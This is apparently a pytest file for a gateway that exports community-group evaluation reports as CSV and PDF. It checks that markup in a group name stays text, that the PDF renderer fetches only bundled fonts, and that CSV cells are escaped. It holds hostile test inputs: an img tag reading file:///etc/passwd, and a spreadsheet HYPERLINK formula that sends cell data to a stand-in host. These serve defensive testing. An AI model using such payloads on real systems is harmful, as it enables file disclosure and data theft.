"""The evaluation report's CSV and PDF as the gateway makes them, without a platform:
a group's name made of markup stays text in the PDF, WeasyPrint fetches nothing but
the shipped fonts, and the CSV reads back as the report says."""
import csv
import io

import pypdf
import pytest

from services.gateway import evaluation
from services.gateway.routes.evaluation import print_html

HOSTILE = '<img src="file:///etc/passwd"> KIM "Maju" & <b>Jaya</b>'


def report() -> dict:
    figures = {"activities": 12, "acknowledged": 3, "relays": 2, "reached": 150, "aspirations_filed": 1,
               "aspirations_answered": 1, "posts": 0, "hoax_reports": 0}
    group = {"rank": 1, "kim_id": "KIM-1471011002-01", "name": HOSTILE, "village_code": "14.71.01.1002",
             "village_name": "Jadirejo", "regency_code": "14.71", "regency_name": "Kota Pekanbaru",
             "classification": "tumbuh", "status": "active", "last_activity_on": "2025-12-15",
             "days_without_activity": 26, "figures": figures, "active_months": 12, "months": 12,
             "regularity": 1.0, "volume": 4.1, "index": 40.6, "monthly": [4.1] * 12,
             "next": {"classification": "berkembang", "criteria_from": "default", "ready": True,
                      "checks": [{"criterion": "index", "required": 15, "actual": 40.6, "met": True}]}}
    return {"region": {"code": "14.71", "name": "Kota Pekanbaru", "level": "regency"},
            "period": {"from": "2025-01", "to": "2025-12", "months": [f"2025-{m:02d}" for m in range(1, 13)]},
            "formula": "2026-11", "counted": [], "unavailable": ["posts", "hoax_reports"],
            "dormancy": {"vakum_after_days": 180, "risk_after_days": 120, "as_of": "2026-01-10"},
            "summary": {"groups": 1, "mean_index": 40.6, "at_risk": 0, "ready": 1, "bands": [0, 0, 1, 0, 0],
                        "figures": figures, "monthly": [4.1] * 12},
            "regencies": [], "groups": [group], "at_risk": [], "ready": [group["kim_id"]]}


def test_markup_in_a_name_stays_text_in_the_pdf():
    pdf = pypdf.PdfReader(io.BytesIO(evaluation.as_pdf(print_html(report(), "id"))))
    text = " ".join(page.extract_text() for page in pdf.pages)
    assert "Evaluasi KIM Kota Pekanbaru (14.71)" in text and "Memenuhi kriteria naik kelas" in text
    assert '<img src="file:///etc/passwd"> KIM "Maju" &' in text.replace("\n", " ")
    fonts = {font.get_object()["/BaseFont"].split("+")[-1] for page in pdf.pages
             for font in page["/Resources"]["/Font"].values()}
    assert fonts <= {"DejaVu-Sans", "DejaVu-Sans-Bold"}, fonts


@pytest.mark.parametrize("url", ["file:///etc/passwd", "http://127.0.0.1:9/x.png",
                                 (evaluation.FONTS / ".." / "site.css").as_uri()])
def test_weasyprint_fetches_nothing_but_the_fonts(url):
    with pytest.raises(ValueError):
        evaluation._fonts_fetcher().fetch(url)
    assert evaluation._fonts_fetcher().fetch((evaluation.FONTS / "DejaVuSans.ttf").as_uri()) is not None


def test_the_csv_reads_back_as_the_report():
    for english, columns in ((False, ("peringkat", "nama", "indeks", "memenuhi_kriteria")),
                             (True, ("rank", "name", "index", "meets_criteria"))):
        text, name = evaluation.as_csv(report(), english)
        rows = list(csv.DictReader(io.StringIO(text)))
        assert name == f"{'evaluation' if english else 'evaluasi'}-14.71-2025-01-2025-12.csv"
        rank, title, index, ready = columns
        assert [(r[rank], r[title], float(r[index]), r[ready], int(r["reached"])) for r in rows] == [
            ("1", HOSTILE, 40.6, "yes" if english else "ya", 150)]


def test_a_name_a_spreadsheet_would_run_as_a_formula_stays_text():
    hostile = report()
    hostile["groups"][0]["name"] = '=HYPERLINK("http://contoh.example/?x="&A1,"KIM")'
    text, _ = evaluation.as_csv(hostile, english=False)
    [row] = list(csv.DictReader(io.StringIO(text)))
    assert row["nama"] == "'" + hostile["groups"][0]["name"]


def test_the_default_period_is_the_last_twelve_whole_months():
    from datetime import date
    assert evaluation.last_twelve_months(date(2026, 1, 5)) == ("2025-01", "2025-12")
    assert evaluation.last_twelve_months(date(2026, 11, 29)) == ("2025-11", "2026-10")
